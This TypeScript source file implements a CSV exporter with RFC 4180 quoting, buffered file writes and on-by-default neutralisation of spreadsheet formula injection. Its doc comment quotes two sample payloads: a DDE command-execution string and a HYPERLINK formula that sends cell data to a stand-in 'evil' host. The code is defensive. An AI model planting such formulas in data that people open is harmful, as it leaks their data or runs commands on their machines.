/**
 * The CSV encoder shared by the app's export and the CLI (DESIGN.md "CSV export").
 *
 * Output format (RFC 4180, with the options of {@link CsvOptions}):
 *  - fields are separated by the chosen delimiter (`comma` `,`, `semicolon` `;`, `tab` U+0009);
 *  - records end with CRLF, the last one included;
 *  - **every** field is quoted (`"…"`), text, numbers, booleans and empty cells (`""`) alike, and
 *    double quotes inside are doubled. A spreadsheet set to another list separator than the file's
 *    (a `;` locale opening a comma file) then still finds every separator character, line break
 *    and formula text inside quotes, and cannot split a cell into one that starts a formula. Only
 *    the quoting decides: a reader that honours quotes sees the same cells whatever the delimiter;
 *  - with `bom`, the file starts with the UTF-8 byte-order mark (EF BB BF) so Excel reads UTF-8.
 *
 * Formula-injection neutralisation (OWASP "CSV Injection"), on by default, by the rule of
 * `shared/csvCell.ts` (which copying rows uses too): a **text** cell gets a single quote `'` put in
 * front of it when, after any leading whitespace, it starts with a formula starter (`=` `+` `-` `@`,
 * their fullwidth forms `＝` `＋` `－` `＠`, NUL, or TAB or CR in the leading whitespace) or with a
 * character that can end the quoted cell early in a reader set to another separator (`"` `,` `;`);
 * and a `'` after each TAB, CR or LF inside the cell that such a character follows, where a reader
 * that loses the quoting splits the cell. The quotes are added before the RFC 4180 quoting, so
 * `=1,2` becomes `"'=1,2"` and `a<TAB>=1` becomes `"a<TAB>'=1"`; the rest of the text is unchanged.
 * **Numbers** (cells that come out of SQLite as INTEGER or REAL, e.g. an order's
 * status code or a recipient count) are never changed: `-5` stays `"-5"`, because a spreadsheet
 * reads it as the number it is and a number cannot carry a formula. A *text* cell holding `-5` (a
 * phone number field) is neutralised to `'-5`: the encoder cannot tell it from a payload such as
 * `-2+3+cmd|' /C calc'!A0`, and text stays text in the spreadsheet either way.
 *
 * Why it exists (shown to people who turn it off): a cell starting with one of these characters is
 * run as a formula when the file is opened in Excel, LibreOffice or Google Sheets; a contact whose
 * name is `=HYPERLINK("http://evil/?"&A1,"Click")` could leak data or run commands on the machine
 * of whoever opens the export. Turn it off only when the file goes to a program, not a person, and
 * the exact cell text matters. Quoting stays on either way.
 *
 * Speed: each record is encoded into one reused 1 MiB buffer, written with one `writeSync` when
 * full, so a million-row export makes a few hundred syscalls and keeps no text around.
 */
import { writeSync } from 'node:fs';
import type { CsvOptions } from '../../../shared/contract.ts';
import { encodeTextCell, hasCellSplit, needsNeutralizing } from '../../../shared/csvCell.ts';

/** A cell as it comes out of SQLite (or a column expression). `null`/`undefined` become an empty field. */
export type CsvValue = string | number | bigint | boolean | null | undefined | Uint8Array;

/** The delimiter characters of {@link CsvOptions.delimiter}. */
export const CSV_DELIMITERS = { comma: ',', semicolon: ';', tab: '\t' } as const satisfies Record<CsvOptions['delimiter'], string>;

/** The UTF-8 byte-order mark as a string (written as EF BB BF). */
export const UTF8_BOM = '\uFEFF';

/** The record terminator (RFC 4180 §2.1). */
export const CSV_LINE_END = '\r\n';

/** Options most people want: comma, no BOM, neutralisation on. */
export const DEFAULT_CSV_OPTIONS: CsvOptions = { delimiter: 'comma', bom: false, neutralizeFormulas: true };

export { CELL_BREAKING_CHARS, CELL_SPLITTING_CHARS, FORMULA_TRIGGER_CHARS, needsNeutralizing, neutralizeFormula, startsLikeFormula } from '../../../shared/csvCell.ts';

const utf8 = new TextDecoder('utf-8');

/**
 * Encodes one cell of a row (no delimiter, no line end): always quoted.
 * @param value the cell; text, number, bigint, boolean (`true`/`false`), bytes (read as UTF-8) or null (empty)
 * @param options the CSV options (neutralisation matters here; the delimiter does not)
 * @returns the field as it appears in the file
 */
export function encodeCsvField(value: CsvValue, options: CsvOptions): string {
  return makeFieldEncoder(options.neutralizeFormulas)(value);
}

function makeFieldEncoder(neutralize: boolean): (value: CsvValue) => string {
  return (value: CsvValue): string => {
    let text: string;
    if (typeof value === 'string') {
      text = value;
    } else if (value === null || value === undefined) {
      return '""';
    } else if (typeof value === 'number' || typeof value === 'bigint') {
      // Numbers never contain a quote and are never neutralised.
      return `"${String(value)}"`;
    } else if (typeof value === 'boolean') {
      return value ? '"true"' : '"false"';
    } else {
      text = utf8.decode(value);
    }
    return encodeTextCell(text, neutralize);
  };
}

/**
 * Makes a function that encodes one record (the fields joined by the delimiter, ending in CRLF).
 * Build it once per export: it keeps the delimiter and the options in a closure.
 *
 * For speed the returned function may overwrite cells of the array it is given with their encoded
 * text (rows from better-sqlite3's `raw()` are fresh arrays, so the export loop passes them as they
 * are); pass a copy when the array is still needed.
 */
export function createCsvRowEncoder(options: CsvOptions): (values: CsvValue[]) => string {
  const delimiter = CSV_DELIMITERS[options.delimiter];
  const field = makeFieldEncoder(options.neutralizeFormulas);
  return (values: CsvValue[]): string => {
    const n = values.length;
    for (let i = 0; i < n; i++) values[i] = field(values[i]);
    return values.join(delimiter) + CSV_LINE_END;
  };
}

/**
 * Encodes a whole table in memory (header and rows). For small outputs and tests; exports of any
 * size go through {@link CsvFileWriter}.
 * @param header the header cells, or null for no header row
 * @param rows the records
 * @param options delimiter, BOM, neutralisation
 */
export function encodeCsv(header: readonly string[] | null, rows: Iterable<readonly CsvValue[]>, options: CsvOptions): string {
  const row = createCsvRowEncoder(options);
  let out = options.bom ? UTF8_BOM : '';
  if (header) out += row([...header]);
  for (const r of rows) out += row([...r]);
  return out;
}

/** Default size of the buffer filled before one write (bytes). */
export const DEFAULT_CHUNK_BYTES = 1 << 20;

/**
 * Writes CSV records to an open file descriptor in large chunks: each record is encoded straight
 * into one reused buffer of {@link DEFAULT_CHUNK_BYTES}, written with one `writeSync` when full, so
 * a million-row export makes a few hundred syscalls and keeps no text around (memory stays flat).
 * Synchronous by design: exports run in the database worker (or the CLI) next to better-sqlite3,
 * which is synchronous too.
 *
 * The output is byte for byte that of {@link createCsvRowEncoder} (tests compare both, and parse it
 * back with csv-parse). The common cell, ASCII text or a number, is copied into the buffer between
 * its quotes in one pass (doubling any quote) without building the record as a string; anything
 * else (non-ASCII text, booleans, bigints, bytes) is encoded as the string encoder does and written
 * as UTF-8. This keeps an export of 1,000,000 contacts near the `sqlite3` shell's own CSV output
 * (docs/benchmarks.md).
 *
 * Call {@link writeRow} per record and {@link flush} at the end; the writer does not own `fd`.
 */
export class CsvFileWriter {
  readonly fd: number;
  /** UTF-8 bytes written so far (after {@link flush}, every byte of every record). */
  bytesWritten = 0;
  readonly #encodeRow: (values: CsvValue[]) => string;
  readonly #encodeField: (value: CsvValue) => string;
  readonly #delimiter: number;
  readonly #neutralize: boolean;
  readonly #buffer: Buffer;
  #used = 0;

  /**
   * @param fd a file descriptor open for writing
   * @param options delimiter, BOM (written first), neutralisation
   * @param chunkBytes size of the buffer (records longer than it are written on their own)
   */
  constructor(fd: number, options: CsvOptions, chunkBytes: number = DEFAULT_CHUNK_BYTES) {
    this.fd = fd;
    this.#encodeRow = createCsvRowEncoder(options);
    this.#encodeField = makeFieldEncoder(options.neutralizeFormulas);
    this.#delimiter = CSV_DELIMITERS[options.delimiter].charCodeAt(0);
    this.#neutralize = options.neutralizeFormulas;
    this.#buffer = Buffer.allocUnsafe(Math.max(16, chunkBytes));
    if (options.bom) this.#append(UTF8_BOM);
  }

  /** Adds one record (may overwrite cells of `values`, see {@link createCsvRowEncoder}); writes the buffer when it is full. */
  writeRow(values: CsvValue[]): void {
    const n = values.length;
    // Most UTF-8 bytes the record can take: 3 per UTF-16 code unit (a doubled quote takes 2), 3
    // more per text cell (the quotes and a neutralising '), 26 per number, 2 per empty cell,
    // delimiters and CRLF.
    let most = n + 2;
    for (let i = 0; i < n; i++) {
      const v = values[i];
      if (typeof v === 'string') most += 3 * v.length + 3;
      else if (typeof v === 'number') most += 26;
      else if (v === null || v === undefined) most += 2;
      else {
        // booleans, bigints and bytes: rare; the string encoder handles them
        this.#append(this.#encodeRow(values));
        return;
      }
    }
    if (this.#used + most > this.#buffer.length) {
      this.flush();
      if (most > this.#buffer.length) {
        this.#append(this.#encodeRow(values));
        return;
      }
    }
    const buf = this.#buffer;
    let pos = this.#used;
    for (let i = 0; i < n; i++) {
      if (i > 0) buf[pos++] = this.#delimiter;
      const v = values[i];
      if (typeof v === 'string') pos = this.#writeText(v, pos);
      else {
        buf[pos++] = 34;
        if (typeof v === 'number') pos = writeAscii(buf, String(v), pos);
        buf[pos++] = 34;
      }
    }
    buf[pos++] = 13;
    buf[pos++] = 10;
    this.#used = pos;
  }

  /** Writes what is buffered. */
  flush(): void {
    if (this.#used === 0) return;
    this.#writeAll(this.#buffer, this.#used);
    this.#used = 0;
  }

  /** One text cell at `pos`, quoted (the buffer has room for it); returns the position after it. */
  #writeText(v: string, pos: number): number {
    // A cell with a TAB, CR or LF may get a `'` inside when neutralising: the field encoder writes it.
    if (this.#neutralize && hasCellSplit(v)) return pos + this.#buffer.write(this.#encodeField(v), pos, 'utf8');
    const buf = this.#buffer;
    const start = pos;
    buf[pos++] = 34;
    if (this.#neutralize && needsNeutralizing(v)) buf[pos++] = 39;
    // Copy while checking; the first character that is not plain ASCII sends the cell to the
    // field encoder, whose text is written again from `start`.
    const len = v.length;
    for (let i = 0; i < len; i++) {
      const c = v.charCodeAt(i);
      if (c >= 128) return start + buf.write(this.#encodeField(v), start, 'utf8');
      buf[pos++] = c;
      if (c === 34) buf[pos++] = 34;
    }
    buf[pos++] = 34;
    return pos;
  }

  #append(text: string): void {
    // A UTF-16 code unit never takes more than 3 UTF-8 bytes (a surrogate pair: 4 for 2 units).
    const most = text.length * 3;
    if (this.#used + most > this.#buffer.length) {
      this.flush();
      if (most > this.#buffer.length) {
        const bytes = Buffer.from(text, 'utf8');
        this.#writeAll(bytes, bytes.length);
        return;
      }
    }
    this.#used += this.#buffer.write(text, this.#used, 'utf8');
  }

  #writeAll(bytes: Buffer, length: number): void {
    let offset = 0;
    while (offset < length) offset += writeSync(this.fd, bytes, offset, length - offset);
    this.bytesWritten += length;
  }
}

/** Copies an ASCII-only string into `buf` at `pos` (one byte per character); returns the position after it. */
function writeAscii(buf: Buffer, text: string, pos: number): number {
  const len = text.length;
  for (let i = 0; i < len; i++) buf[pos + i] = text.charCodeAt(i);
  return pos + len;
}
